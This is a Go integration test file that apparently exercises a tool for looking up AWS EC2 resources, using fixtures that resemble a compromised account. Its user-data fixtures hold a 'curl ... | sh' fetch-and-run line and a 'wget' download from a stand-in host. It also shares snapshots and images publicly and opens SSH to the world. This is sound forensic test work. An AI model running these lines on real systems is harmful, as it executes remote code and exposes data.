package resource

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"golang.org/x/tools/txtar"

	"github.com/trailbench/trailbench/analysis"
	"github.com/trailbench/trailbench/analysis/awsread/awstest"
)

// instance starts an instance with everything that a look-up can find about one.
func (e *emulator) instance(c *ec2.Client) types.Instance {
	e.t.Helper()
	ctx, must := e.t.Context(), filled(e.t)
	profiles := iam.NewFromConfig(e.Fill)
	must(profiles.CreateInstanceProfile(ctx, &iam.CreateInstanceProfileInput{InstanceProfileName: aws.String("web")}))
	must(c.CreateKeyPair(ctx, &ec2.CreateKeyPairInput{KeyName: aws.String("ops")}))
	group, err := c.CreateSecurityGroup(ctx, &ec2.CreateSecurityGroupInput{GroupName: aws.String("web"), Description: aws.String("of the web servers")})
	must(group, err)
	script := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n"))
	out, err := c.RunInstances(ctx, &ec2.RunInstancesInput{
		ImageId: aws.String("ami-12c6146b"), MinCount: aws.Int32(1), MaxCount: aws.Int32(1), InstanceType: types.InstanceTypeT3Micro,
		KeyName: aws.String("ops"), UserData: &script, DisableApiTermination: aws.Bool(true), SecurityGroupIds: []string{*group.GroupId},
		IamInstanceProfile: &types.IamInstanceProfileSpecification{Name: aws.String("web")},
		MetadataOptions:    &types.InstanceMetadataOptionsRequest{HttpTokens: types.HttpTokensStateOptional},
		TagSpecifications: []types.TagSpecification{{
			ResourceType: types.ResourceTypeInstance, Tags: []types.Tag{{Key: aws.String("Name"), Value: aws.String("web-1")}},
		}},
	})
	must(out, err)
	return out.Instances[0]
}

func TestIntegrationEC2(t *testing.T) {
	e := startEmulator(t)
	c := ec2.NewFromConfig(e.Fill)
	i := e.instance(c)
	e.instances(c, i)
	e.disks(c, i)
	e.network(c, i)
	e.vpcs(c)
}

func (e *emulator) instances(c *ec2.Client, i types.Instance) {
	ctx, must := e.t.Context(), filled(e.t)
	e.lookUp("AWS::EC2::Instance", *i.InstanceId, "Managed[].PingStatus")
	e.list("AWS::EC2::Instance", *i.InstanceId)
	e.gone("AWS::EC2::Instance", "i-0abcdef1234567890")

	e.lookUp("AWS::EC2::KeyPair", "ops")
	e.list("AWS::EC2::KeyPair", "ops")
	e.gone("AWS::EC2::KeyPair", "nobodys")

	made, err := c.CreateLaunchTemplate(ctx, &ec2.CreateLaunchTemplateInput{
		LaunchTemplateName: aws.String("miners"),
		LaunchTemplateData: &types.RequestLaunchTemplateData{
			ImageId:            aws.String("ami-12c6146b"),
			UserData:           aws.String(base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\nwget http://198.51.100.7/x\n"))),
			IamInstanceProfile: &types.LaunchTemplateIamInstanceProfileSpecificationRequest{Arn: aws.String("arn:aws:iam::123456789012:instance-profile/web")},
			MetadataOptions:    &types.LaunchTemplateInstanceMetadataOptionsRequest{HttpTokens: types.LaunchTemplateHttpTokensStateOptional},
		},
	})
	must(made, err)
	e.lookUp("AWS::EC2::LaunchTemplate", *made.LaunchTemplate.LaunchTemplateId)
	e.list("AWS::EC2::LaunchTemplate", *made.LaunchTemplate.LaunchTemplateId)
	e.gone("AWS::EC2::LaunchTemplate", "lt-0abcdef1234567890")
}

func (e *emulator) disks(c *ec2.Client, i types.Instance) {
	ctx, must := e.t.Context(), filled(e.t)
	disk, err := c.CreateVolume(ctx, &ec2.CreateVolumeInput{AvailabilityZone: aws.String("us-east-1a"), Size: aws.Int32(8), Encrypted: aws.Bool(true)})
	must(disk, err)
	must(c.AttachVolume(ctx, &ec2.AttachVolumeInput{VolumeId: disk.VolumeId, InstanceId: i.InstanceId, Device: aws.String("/dev/sdf")}))
	snapshot, err := c.CreateSnapshot(ctx, &ec2.CreateSnapshotInput{VolumeId: disk.VolumeId, Description: aws.String("for a while")})
	must(snapshot, err)
	must(c.ModifySnapshotAttribute(ctx, &ec2.ModifySnapshotAttributeInput{
		SnapshotId: snapshot.SnapshotId, Attribute: types.SnapshotAttributeNameCreateVolumePermission,
		OperationType: types.OperationTypeAdd, UserIds: []string{"444455556666"}, GroupNames: []string{"all"},
	}))
	e.lookUp("AWS::EC2::Snapshot", *snapshot.SnapshotId, "BlockPublicAccess.State")
	// moto takes "self" for the number of an account: List is in the recording alone.
	e.gone("AWS::EC2::Snapshot", "snap-0abcdef1234567890")

	restored, err := c.CreateVolume(ctx, &ec2.CreateVolumeInput{AvailabilityZone: aws.String("us-east-1a"), SnapshotId: snapshot.SnapshotId})
	must(restored, err)
	must(c.AttachVolume(ctx, &ec2.AttachVolumeInput{VolumeId: restored.VolumeId, InstanceId: i.InstanceId, Device: aws.String("/dev/sdg")}))
	e.lookUp("AWS::EC2::Volume", *restored.VolumeId)
	e.list("AWS::EC2::Volume", *restored.VolumeId)
	e.gone("AWS::EC2::Volume", "vol-0abcdef1234567890")

	image, err := c.CreateImage(ctx, &ec2.CreateImageInput{InstanceId: i.InstanceId, Name: aws.String("web-copy")})
	must(image, err)
	must(c.ModifyImageAttribute(ctx, &ec2.ModifyImageAttributeInput{
		ImageId: image.ImageId, LaunchPermission: &types.LaunchPermissionModifications{
			Add: []types.LaunchPermission{{UserId: aws.String("444455556666")}, {Group: types.PermissionGroupAll}},
		},
	}))
	e.lookUp("AWS::EC2::Image", *image.ImageId, "BlockPublicAccess.ImageBlockPublicAccessState")
	e.list("AWS::EC2::Image", *image.ImageId)
	e.gone("AWS::EC2::Image", "ami-0abcdef1234567890")
}

// How an image of somebody else is shared is not for us to know, and no failure.
func TestImageOfAnotherAccount(t *testing.T) {
	r := readRecording(t, "ec2-ami")
	for i, f := range r.archive.Files {
		if f.Name == "EC2.DescribeImageAttribute" {
			r.archive.Files[i].Data = []byte("400 text/xml\n<Response><Errors><Error><Code>AuthFailure</Code>" +
				"<Message>Not authorized for image:ami-0abcdef1234567890</Message></Error></Errors><RequestID>1</RequestID></Response>")
		}
	}
	got := through(t, awstest.Replay(t, r.archive.Files, "")).Lookup(t.Context(), r.resource(t))
	if got.Status != analysis.SnapshotFound || !strings.Contains(got.Config, `"LaunchPermissions":null`) {
		t.Errorf("%s %s: %s", got.Status, got.Reason, got.Config)
	}
}

func (e *emulator) network(c *ec2.Client, i types.Instance) {
	ctx, must := e.t.Context(), filled(e.t)
	group, err := c.CreateSecurityGroup(ctx, &ec2.CreateSecurityGroupInput{
		GroupName: aws.String("open"), Description: aws.String("to the world"), VpcId: i.VpcId,
	})
	must(group, err)
	must(c.AuthorizeSecurityGroupIngress(ctx, &ec2.AuthorizeSecurityGroupIngressInput{
		GroupId: group.GroupId, IpPermissions: []types.IpPermission{{
			IpProtocol: aws.String("tcp"), FromPort: aws.Int32(22), ToPort: aws.Int32(22),
			IpRanges: []types.IpRange{{CidrIp: aws.String("0.0.0.0/0")}}, Ipv6Ranges: []types.Ipv6Range{{CidrIpv6: aws.String("::/0")}},
		}},
	}))
	face, err := c.CreateNetworkInterface(ctx, &ec2.CreateNetworkInterfaceInput{
		SubnetId: i.SubnetId, Groups: []string{*group.GroupId}, Description: aws.String("a way in"),
	})
	must(face, err)
	eni := face.NetworkInterface.NetworkInterfaceId
	must(c.AttachNetworkInterface(ctx, &ec2.AttachNetworkInterfaceInput{NetworkInterfaceId: eni, InstanceId: i.InstanceId, DeviceIndex: aws.Int32(1)}))
	e.lookUp("AWS::EC2::SecurityGroup", *group.GroupId)
	e.list("AWS::EC2::SecurityGroup", *group.GroupId)
	e.gone("AWS::EC2::SecurityGroup", "sg-0abcdef1234567890")

	elastic, err := c.AllocateAddress(ctx, &ec2.AllocateAddressInput{Domain: types.DomainTypeVpc})
	must(elastic, err)
	must(c.AssociateAddress(ctx, &ec2.AssociateAddressInput{AllocationId: elastic.AllocationId, NetworkInterfaceId: eni}))
	e.lookUp("AWS::EC2::NetworkInterface", *eni, "NetworkInterface.RequesterId", "Address.PublicIp", "Address.AllocationId",
		"Address.InstanceId", "Addresses[].PublicIp")
	e.also("AWS::EC2::EIP", *elastic.AllocationId)
	for _, ip := range []string{*elastic.PublicIp, *face.NetworkInterface.PrivateIpAddress} {
		k, _ := e.looker()
		got := k.Lookup(ctx, analysis.Resource{Type: "AWS::EC2::EIP", ID: ip, AccountID: account, Region: "us-east-1"})
		if got.Status != analysis.SnapshotFound || !strings.Contains(got.Config, *eni) {
			e.t.Errorf("%s: %s %s: %s", ip, got.Status, got.Reason, got.Config)
		}
	}
	e.list("AWS::EC2::NetworkInterface", *eni, *elastic.AllocationId)
	e.gone("AWS::EC2::NetworkInterface", "eni-0abcdef1234567890")

	acl, err := c.CreateNetworkAcl(ctx, &ec2.CreateNetworkAclInput{VpcId: i.VpcId})
	must(acl, err)
	id := acl.NetworkAcl.NetworkAclId
	must(c.CreateNetworkAclEntry(ctx, &ec2.CreateNetworkAclEntryInput{
		NetworkAclId: id, CidrBlock: aws.String("203.0.113.0/24"), Egress: aws.Bool(false), Protocol: aws.String("-1"),
		RuleAction: types.RuleActionAllow, RuleNumber: aws.Int32(10),
	}))
	e.lookUp("AWS::EC2::NetworkAcl", *id, "NetworkAcl.Associations[].SubnetId")
	e.list("AWS::EC2::NetworkAcl", *id)
	// Gone is in the recording alone: moto speaks of a route table then.
}

// An address that AWS lends an instance is an interface's, and no allocation.
func TestPublicAddress(t *testing.T) {
	f := func(interfaces string, want analysis.SnapshotStatus) {
		t.Helper()
		answers := awstest.Replay(t, []txtar.File{
			{Name: "EC2.DescribeAddresses", Data: []byte("200 text/xml\n<DescribeAddressesResponse><addressesSet/></DescribeAddressesResponse>")},
			{Name: "EC2.DescribeNetworkInterfaces", Data: []byte("200 text/xml\n<DescribeNetworkInterfacesResponse><networkInterfaceSet>" +
				interfaces + "</networkInterfaceSet></DescribeNetworkInterfacesResponse>")},
		}, "")
		got := through(t, answers).Lookup(t.Context(), analysis.Resource{Type: "AWS::EC2::EIP", ID: "203.0.113.7", AccountID: account, Region: "us-east-1"})
		if got.Status != want || strings.Contains(got.Config, "eni-0abcdef1234567890") != (want == analysis.SnapshotFound) {
			t.Errorf("%s %s: %s", got.Status, got.Reason, got.Config)
		}
	}
	f("<item><networkInterfaceId>eni-0abcdef1234567890</networkInterfaceId></item>", analysis.SnapshotFound)
	f("", analysis.SnapshotGone)
}

func (e *emulator) vpcs(c *ec2.Client) {
	ctx, must := e.t.Context(), filled(e.t)
	made, err := c.CreateVpc(ctx, &ec2.CreateVpcInput{CidrBlock: aws.String("10.0.0.0/16")})
	must(made, err)
	vpc := made.Vpc.VpcId
	other, err := c.CreateVpc(ctx, &ec2.CreateVpcInput{CidrBlock: aws.String("10.1.0.0/16")})
	must(other, err)
	peering, err := c.CreateVpcPeeringConnection(ctx, &ec2.CreateVpcPeeringConnectionInput{VpcId: vpc, PeerVpcId: other.Vpc.VpcId})
	must(peering, err)
	peer := peering.VpcPeeringConnection.VpcPeeringConnectionId
	must(c.AcceptVpcPeeringConnection(ctx, &ec2.AcceptVpcPeeringConnectionInput{VpcPeeringConnectionId: peer}))
	logs, err := c.CreateFlowLogs(ctx, &ec2.CreateFlowLogsInput{
		ResourceIds: []string{*vpc}, ResourceType: types.FlowLogsResourceTypeVpc, TrafficType: types.TrafficTypeAll,
		LogDestinationType: types.LogDestinationTypeS3, LogDestination: aws.String("arn:aws:s3:::" + e.bucket("amzn-s3-demo-bucket")),
	})
	must(logs, err)
	if len(logs.FlowLogIds) != 1 {
		e.t.Fatalf("no flow log: %+v", logs.Unsuccessful)
	}
	e.lookUp("AWS::EC2::VPC", *vpc, "TrafficMirrorSessions[].NetworkInterfaceId", "TrafficMirrorSessions[].TrafficMirrorTargetId")
	e.list("AWS::EC2::VPC", *vpc)
	e.gone("AWS::EC2::VPC", "vpc-0abcdef1234567890")
	e.lookUp("AWS::EC2::FlowLog", logs.FlowLogIds[0])
	e.list("AWS::EC2::FlowLog", logs.FlowLogIds[0])
	e.gone("AWS::EC2::FlowLog", "fl-0abcdef1234567890")

	gateway, err := c.CreateInternetGateway(ctx, &ec2.CreateInternetGatewayInput{})
	must(gateway, err)
	igw := gateway.InternetGateway.InternetGatewayId
	must(c.AttachInternetGateway(ctx, &ec2.AttachInternetGatewayInput{InternetGatewayId: igw, VpcId: vpc}))
	e.lookUp("AWS::EC2::InternetGateway", *igw)
	e.list("AWS::EC2::InternetGateway", *igw)
	e.gone("AWS::EC2::InternetGateway", "igw-0abcdef1234567890")

	subnet, err := c.CreateSubnet(ctx, &ec2.CreateSubnetInput{VpcId: vpc, CidrBlock: aws.String("10.0.1.0/24")})
	must(subnet, err)
	table, err := c.CreateRouteTable(ctx, &ec2.CreateRouteTableInput{VpcId: vpc})
	must(table, err)
	rtb := table.RouteTable.RouteTableId
	must(c.AssociateRouteTable(ctx, &ec2.AssociateRouteTableInput{RouteTableId: rtb, SubnetId: subnet.Subnet.SubnetId}))
	must(c.CreateRoute(ctx, &ec2.CreateRouteInput{RouteTableId: rtb, DestinationCidrBlock: aws.String("0.0.0.0/0"), GatewayId: igw}))
	must(c.CreateRoute(ctx, &ec2.CreateRouteInput{RouteTableId: rtb, DestinationCidrBlock: aws.String("10.1.0.0/16"), VpcPeeringConnectionId: peer}))
	e.lookUp("AWS::EC2::RouteTable", *rtb)
	e.list("AWS::EC2::RouteTable", *rtb)
	e.gone("AWS::EC2::RouteTable", "rtb-0abcdef1234567890")
}
